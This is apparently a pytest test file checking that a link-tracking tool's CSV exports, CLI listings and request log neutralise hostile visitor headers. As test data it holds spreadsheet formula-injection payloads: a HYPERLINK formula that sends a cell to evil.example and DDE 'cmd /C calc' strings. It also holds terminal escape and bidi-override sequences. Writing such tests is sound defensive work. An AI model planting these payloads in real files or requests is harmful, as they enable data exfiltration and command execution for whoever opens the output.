"""What visitors send comes back out safely, against the local stack: hits whose User-Agent,
Referer and Accept-Language are spreadsheet formulas or terminal escape sequences, then the CLI's
CSV export and the admin API's (no cell a spreadsheet would run), ``beacons list``, ``link
list|show`` and ``source show`` (no control or bidi character reaches the terminal) and the local
server's request log (the same).
"""

from __future__ import annotations

import csv
import http.client
import io
import logging
import socket
import uuid
from typing import TYPE_CHECKING
from urllib.parse import urlencode, urlsplit

import pytest
from webbugger.csv_cells import FORMULA_STARTS

if TYPE_CHECKING:
    from conftest import RunningStack

pytestmark = pytest.mark.ddblocal
DESTINATION = "https://good.example/landing"
FORMULAS = {
    "User-Agent": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "Referer": "+cmd|' /C calc'!A0",
    "Accept-Language": "@SUM(1+1)*cmd|' /C calc'!A0",
}
# Clear the screen, an OSC 8 hyperlink, a C1 CSI, a bidi override and isolate (a header can carry
# them all); stored fields also get a CR/LF that would rewrite or add a table row.
ESCAPES = "\x1b[2J\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\\x9b31m\u202eedoc\u2066x\u2069"
NEW_ROW = "\r\nFAKE  row"
UNSAFE = {chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))} | {"\u202e", "\u2066", "\u2069"}


def hit(stack: RunningStack, link_id: str, headers: dict[str, str]) -> None:
    parts = urlsplit(stack.api_url)
    conn = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=30)
    try:
        # Sent as UTF-8, as a browser's bytes would be (http.client would send Latin-1).
        raw = {name: value.encode().decode("latin-1") for name, value in headers.items()}
        conn.request("GET", f"/l/{link_id}", headers=raw)
        assert conn.getresponse().status == 302
    finally:
        conn.close()


def ok(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    """``webbugger ARGS`` in this process, against the local stack (a subprocess costs seconds)."""
    from webbugger import runtime
    from webbugger_cli.main import main

    runtime.reset()
    capsys.readouterr()
    assert main(list(args)) == 0
    return capsys.readouterr().out


def assert_terminal_safe(text: str) -> None:
    for line in text.splitlines():
        found = sorted(UNSAFE & set(line))
        assert not found, f"{found!r} in {line!r}"


def test_exported_csv_cells_never_start_a_formula(
    local_stack: RunningStack, capsys: pytest.CaptureFixture[str]
) -> None:
    link_id = local_stack.create_link(DESTINATION)
    agent = FORMULAS["User-Agent"] + uuid.uuid4().hex
    hit(local_stack, link_id, {**FORMULAS, "User-Agent": agent})
    hit(local_stack, link_id, {"User-Agent": "-2+3", "Referer": "=1+1", "Accept-Language": "en"})

    from_cli = ok(capsys, "export", "--format", "csv", "--target", f"link:{link_id}")
    parts = urlsplit(local_stack.admin_url)
    conn = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=30)
    try:
        conn.request("GET", "/export?" + urlencode({"format": "csv", "target": f"link:{link_id}"}))
        answer = conn.getresponse()
        assert answer.status == 200
        from_api = answer.read().decode()
    finally:
        conn.close()

    for export in (from_cli, from_api):
        rows = list(csv.DictReader(io.StringIO(export)))
        assert len(rows) == 2, export
        for row in rows:
            for name, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS), f"{name}: {cell!r}"
        by_agent = {row["user_agent"]: row for row in rows}
        first = by_agent["'" + agent]  # the visitor's text, kept whole behind one quote
        assert (first["referer"], first["language"]) == (
            "'" + FORMULAS["Referer"],
            "'" + FORMULAS["Accept-Language"],
        )
        assert by_agent["'-2+3"]["referer"] == "'=1+1"


def test_listings_escape_control_and_bidi_characters(
    local_stack: RunningStack, capsys: pytest.CaptureFixture[str]
) -> None:
    from webbugger_plugins.link import update_link

    link_id = local_stack.create_link(DESTINATION)
    update_link(link_id, {"tags": [f"tag{ESCAPES}{NEW_ROW}"]})  # stored by an admin API caller
    marker = uuid.uuid4().hex
    hit(
        local_stack,
        link_id,
        {"User-Agent": f"ua{ESCAPES}{marker}", "Referer": f"https://r.example/{ESCAPES}"},
    )
    campaign = f"c-{marker[:8]}"
    ok(capsys, "source", "create", "campaign", campaign, "--name", f"name{ESCAPES}{NEW_ROW}")

    outputs = {
        "beacons list": ok(capsys, "beacons", "list", "--target", f"link:{link_id}"),
        "link list": ok(capsys, "link", "list", "--limit", "10000"),
        "link show": ok(capsys, "link", "show", link_id),
        "source show": ok(capsys, "source", "show", f"campaign:{campaign}"),
    }
    for name, output in outputs.items():
        assert_terminal_safe(output)
        assert "\\x1b[2J" in output, f"{name}: the planted text is shown, escaped: {output}"
    assert "\\u202eedoc" in outputs["link show"] + outputs["source show"]
    assert len(outputs["beacons list"].splitlines()) == 2  # a header and the one row: no fake row


def test_the_request_log_escapes_what_the_visitor_sent(
    local_stack: RunningStack, caplog: pytest.LogCaptureFixture
) -> None:
    parts = urlsplit(local_stack.api_url)
    path = b"/p/\x1b[2J\x1b]8;;https://evil.example/\x07\x9b31m" + "\u202e".encode()
    with (
        caplog.at_level(logging.INFO, logger="webbugger_cli.local.server"),
        socket.create_connection((parts.hostname, parts.port), timeout=10) as conn,
    ):
        conn.sendall(b"GET " + path + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        while conn.recv(65536):
            pass
    logged = [record.getMessage() for record in caplog.records if "/p/" in record.getMessage()]
    assert logged, caplog.text
    for message in logged:
        assert_terminal_safe(message)
        assert "\\x1b[2J" in message
